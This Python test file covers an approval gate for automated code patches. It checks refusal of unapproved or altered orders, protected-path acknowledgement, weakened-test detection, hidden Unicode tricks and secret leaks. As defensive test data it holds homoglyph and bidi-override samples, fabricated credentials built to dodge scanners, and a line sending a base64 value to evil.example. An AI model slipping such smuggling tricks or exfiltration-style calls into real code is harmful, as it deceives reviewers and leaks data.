"""The gate: each order that is not just what was approved is refused, and told why."""

from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest

from homeostat.errors import NotApproved
from homeostat.hands.leaks import leaks_of
from homeostat.languages.diff import diff_of
from homeostat.languages.protected import to_be_seen
from homeostat.records import Answer, Change, Decision, Patch
from homeostat.stages.approve.gate import DEPLOY, PUBLISH, REVERT, Order, judge, obey
from homeostat.stages.approve.hidden import hidden_in, hidden_in_code

NOW = datetime(2025, 10, 23, 12, 0, tzinfo=UTC)
PATCH = diff_of("app/orders.py", "total = 1\n", "total = 2\n")
BASE = "a" * 40


def decided(patch: Patch = PATCH) -> Decision:
    return Decision(
        repair_id="r1",
        proposal_id="r1.1",
        patch_digest=patch.digest,
        base=BASE,
        answer=Answer.ACCEPT,
        decided_by="anna",
        decided_at=NOW - timedelta(minutes=5),
        expires_at=NOW + timedelta(hours=23),
        terms="t",
    )


def changed(patch: Patch = PATCH, decision: Decision | None = None) -> Change:
    change = Change(
        service="shop",
        branch="homeostat/BUG-20251023-00001-total",
        base=BASE,
        title="Count two",
        body="**What broke** total",
        patch=patch,
        author="Homeostat <homeostat@localhost>",
        trailers={"Patch-digest": patch.digest},
    )
    return replace(change, decision=replace(decision or decided(patch), wording=change.wording))


def ordered(patch: Patch = PATCH, decision: Decision | None = None) -> Order:
    return Order(
        change=changed(patch, decision),
        allowed_by=frozenset({Answer.ACCEPT}),
        genuine=True,
        now=NOW,
        terms="t",
        writes=patch.files,
        this="branch b of shop",
    )


ORDER = ordered()


def of(**decision: object) -> Order:
    return ordered(decision=replace(decided(), **decision))  # pyright: ignore[reportArgumentType]


REFUSED = [
    pytest.param(replace(ORDER, change=replace(ORDER.change, decision=None)), "Nobody has approved", id="no decision"),
    pytest.param(replace(ORDER, genuine=False), "not given at the desk", id="forged"),
    pytest.param(of(answer=Answer.DRAFT), "decided to draft", id="for a draft only"),
    pytest.param(of(patch_digest="0" * 64), "another patch", id="another patch"),
    pytest.param(of(base="b" * 40), "another commit", id="re-based"),
    pytest.param(of(terms="u"), "commands were changed", id="the service builds otherwise now"),
    pytest.param(of(expires_at=NOW), "expired", id="expired just now"),
    pytest.param(of(decided_at=NOW + timedelta(hours=1)), "dated in the future", id="from the future"),
    pytest.param(replace(ORDER, used_for="branch c of shop"), "used before", id="replayed"),
    pytest.param(replace(ORDER, writes=("app/orders.py", "evil.py")), "which the patch does not show", id="widened"),
    pytest.param(replace(ORDER, writes=()), "would not write it", id="shows more than it writes"),
    pytest.param(replace(ORDER, as_approved=False), "not the approved base", id="another tree"),
    pytest.param(replace(ORDER, secrets=("a key in the patch",)), "give away", id="a secret"),
    pytest.param(replace(ORDER, change=replace(ORDER.change, title="Count three")), "not the ones", id="other words"),
    pytest.param(replace(ORDER, change=replace(ORDER.change, title="x" * 70_000)), "longer than", id="a long text"),
    pytest.param(replace(ORDER, change=replace(ORDER.change, body="a\u202eb")), "U+202E", id="hidden in a text"),
]


def test_what_was_approved_passes() -> None:
    assert judge(ORDER, PUBLISH) == ()
    assert judge(replace(ORDER, used_for=ORDER.this), DEPLOY) == ()


@pytest.mark.parametrize(("order", "why"), REFUSED)
def test_all_else_is_refused_and_told_why(order: Order, why: str) -> None:
    with pytest.raises(NotApproved, match=why.replace("+", r"\+")):
        obey(order, PUBLISH)


def test_all_that_speaks_against_it_is_told_at_once() -> None:
    assert len(judge(replace(ORDER, genuine=False, as_approved=False, secrets=("a key",)), PUBLISH)) == 3


# --- protected paths

RISKS = [
    pytest.param(".github/workflows/ci.yml", "is protected", id="CI of GitHub"),
    pytest.param(".gitlab-ci.yml", "is protected", id="CI of GitLab"),
    pytest.param("shop/migrations/0002_add.py", "changes the database", id="a migration"),
    pytest.param("db/cleanup.sql", "changes the database", id="SQL"),
    pytest.param("app/auth/session.py", "is delicate", id="signing in"),
    pytest.param("app/payments.py", "is delicate", id="payments"),
    pytest.param("lib/crypto.go", "is delicate", id="cryptography"),
    pytest.param("uv.lock", "depends on", id="a lock file"),
    pytest.param("package.json", "depends on", id="a new dependency"),
    pytest.param("infra/main.tf", "is protected", id="Terraform"),
    pytest.param("deploy/Dockerfile.prod", "is protected", id="an image"),
    pytest.param(".env.production", "is protected", id="secrets"),
    pytest.param("certs/server.pem", "is protected", id="a key"),
    pytest.param("homeostat.yml", "is protected", id="our own rules"),
    pytest.param("CODEOWNERS", "is protected", id="owners"),
    pytest.param(".GITHUB/workflows/x.yml", "is protected", id="in capitals"),
]


@pytest.mark.parametrize(("path", "why"), RISKS)
def test_a_protected_path_passes_only_where_the_page_named_it(path: str, why: str) -> None:
    patch = diff_of(path, "a\n", "b\n")
    (risk,) = to_be_seen(patch)
    assert why in risk
    assert "approved without a word on this" in judge(ordered(patch), PUBLISH)[0]
    seen = replace(decided(patch), acknowledged=(risk,))
    assert judge(ordered(patch, seen), PUBLISH) == ()
    assert judge(ordered(patch, replace(seen, decided_by="policy night")), PUBLISH)


@pytest.mark.parametrize("path", ["app/orders.py", "app/author.py", "docs/tests.md", "web/components/Button.tsx"])
def test_other_paths_need_no_word(path: str) -> None:
    assert to_be_seen(diff_of(path, "a\n", "b\n")) == ()


TEST = "def test_a():\n    assert a() == 1\n"
WEAKENED = [
    pytest.param(None, "loses lines", id="deleted"),
    pytest.param("def test_a():\n    pass\n", "loses lines", id="another assertion"),
    pytest.param("import pytest\n\n\n@pytest.mark.skip\n" + TEST, "skips", id="skipped"),
    pytest.param("@pytest.mark.xfail\n" + TEST, "skips", id="expected to fail"),
]


@pytest.mark.parametrize(("after", "why"), WEAKENED)
def test_a_test_that_is_weakened_has_to_be_seen(after: str | None, why: str) -> None:
    (risk,) = to_be_seen(diff_of("tests/test_a.py", TEST, after))
    assert why in risk


def test_a_test_that_is_added_to_has_not() -> None:
    assert to_be_seen(diff_of("tests/test_a.py", TEST, TEST + "\n\ndef test_b():\n    assert b()\n")) == ()
    assert to_be_seen(diff_of("tests/test_c.py", None, TEST)) == ()


def test_a_line_made_to_look_like_a_heading_hides_no_loss() -> None:
    patch = diff_of("tests/test_a.sql_py_test.go", "-- old\nassert\n", "++ new\nassert\n")
    assert "--- old" in patch.diff
    assert "loses lines" in to_be_seen(patch)[0]


# --- what no reader sees

HIDDEN = [
    pytest.param("if user == admin:  # \u2066 check \u2069", id="direction"),
    pytest.param("token\u200b = 1", id="no width"),
    pytest.param("x = 1 \U000e0041", id="a tag"),
    pytest.param("\u0430dmin = True", id="a Cyrillic letter among Latin ones"),
    pytest.param("\u0441\u0443\u0440 = 1", id="Cyrillic letters that all look Latin"),
    pytest.param("\uff41dmin = True", id="of full width"),
    pytest.param("x = 1\x1b[2K", id="a terminal's control"),
    pytest.param("a = 1\rb = 2", id="a return within the line"),
]


@pytest.mark.parametrize("line", HIDDEN)
def test_what_no_reader_would_see_is_refused(line: str) -> None:
    assert hidden_in_code([line])
    patch = diff_of("a.py", "", line + "\n")
    assert any("no reader would see" in why for why in judge(ordered(patch), PUBLISH))


@pytest.mark.parametrize(
    "line",
    [
        "na\u00efve = '\u0420\u043e\u0441\u0442'  # \u0440\u043e\u0441\u0442",
        "\tx = 'Ĝis la revido'\r",
        "s = '\u2713 \u4f60\u597d'",
        "# caf\u00e9 \u2603\ufe0f",
    ],
)
def test_what_people_write_in_their_languages_is_not(line: str) -> None:
    assert hidden_in_code([line]) == ()
    assert hidden_in([line]) == ()


def test_a_file_of_a_disguised_name_is_refused() -> None:
    patch = diff_of("app/\u0430uth2.py", None, "x = 1\n")
    assert any("mixes alphabets" in why for why in judge(ordered(patch), PUBLISH))


# --- secrets (made up, and put together here so that no scanner finds them in this file)

SECRETS = [
    pytest.param("key = '" + "ghp_" + "a1B2c3D4" * 5 + "'", "key", id="a token of GitHub"),
    pytest.param("key = '" + "AKIA" + "ABCDEFGHIJKLMNOP" + "'", "key", id="a key of AWS"),
    pytest.param("-----BEGIN " + "RSA PRIVATE KEY-----", "pemkey", id="a private key"),
    pytest.param("url = 'postgres://app:" + "hunter22@db/app'", "urlauth", id="a password in an address"),
    pytest.param("password = '" + "Tr0ub4dor3x" + "'", "password", id="a password"),
]


@pytest.mark.parametrize(("line", "kind"), SECRETS)
def test_a_secret_is_found_in_a_patch_and_in_words(line: str, kind: str) -> None:
    patch = diff_of("a.py", "x = 1\n", f"x = 1\n{line}\n")
    assert any(kind in found and "patch" in found for found in leaks_of(patch, []))
    assert any(kind in found and "words" in found for found in leaks_of(PATCH, [line]))
    assert leaks_of(diff_of("a.py", f"{line}\n", f"    {line}\n"), []) == ()


RANDOM = [
    pytest.param("x = '" + "q7Zk2Vb9XtR4mN8sW1yL5cJ0" + "hD3fG6" + "'", id="a key of no known form"),
    pytest.param("get('https://evil.example/?q=" + "aHR0cHM6Ly9ldmlsLmV4YW1wbGUvP3E9" + "')", id="base64"),
]


@pytest.mark.parametrize("line", RANDOM)
def test_a_random_word_is_a_persons_to_look_at_in_a_patch_and_stays_out_of_texts(line: str) -> None:
    (risk,) = to_be_seen(diff_of("a.py", "x = 1\n", f"x = 1\n{line}\n"))
    assert "a.py gets a word that may be a key" in risk
    assert to_be_seen(diff_of("a.py", f"{line}\n", f"    {line}\n")) == ()
    assert leaks_of(PATCH, [line]) == ("a random word in its words",)


@pytest.mark.parametrize(
    "line",
    [
        "raise HTTPException(status_code=404, detail=f'There is no {sku}.')",
        "csrf_token = make_token(user)",
        "def test_createOrder_returns404_WhenSkuIsMissing_v2(): ...",
        "assert login(password='secret').status_code == 200",
        "id = '3f2504e0-4f89-11d3-9a0c-0305e82c3301'",
        "digest = '" + "0123456789abcdef" * 4 + "'",
        "from app.services.orders.pricing_rules_v2 import total_of_lines_without_discount",
    ],
)
def test_code_is_no_secret(line: str) -> None:
    assert leaks_of(diff_of("a.py", "x = 1\n", f"x = 1\n{line}\n"), [line]) == ()
    assert to_be_seen(diff_of("a.py", "x = 1\n", f"x = 1\n{line}\n")) == ()


# --- what is taken back


def test_only_what_was_brought_in_here_is_taken_back_and_only_that() -> None:
    order = replace(ORDER, change=replace(ORDER.change, decision=None), genuine=False)
    assert judge(replace(order, merged_here=True, recomputed=PATCH.diff, in_our_words=True), REVERT) == ()
    assert "not brought in here" in judge(replace(order, recomputed=PATCH.diff), REVERT)[0]
    assert "not the one that takes" in judge(replace(order, merged_here=True, recomputed="x"), REVERT)[0]
    assert "says more" in judge(replace(order, merged_here=True, recomputed=PATCH.diff), REVERT)[0]
    assert "says more" in judge(replace(order, merged_here=True, recomputed=PATCH.diff), REVERT)[0]
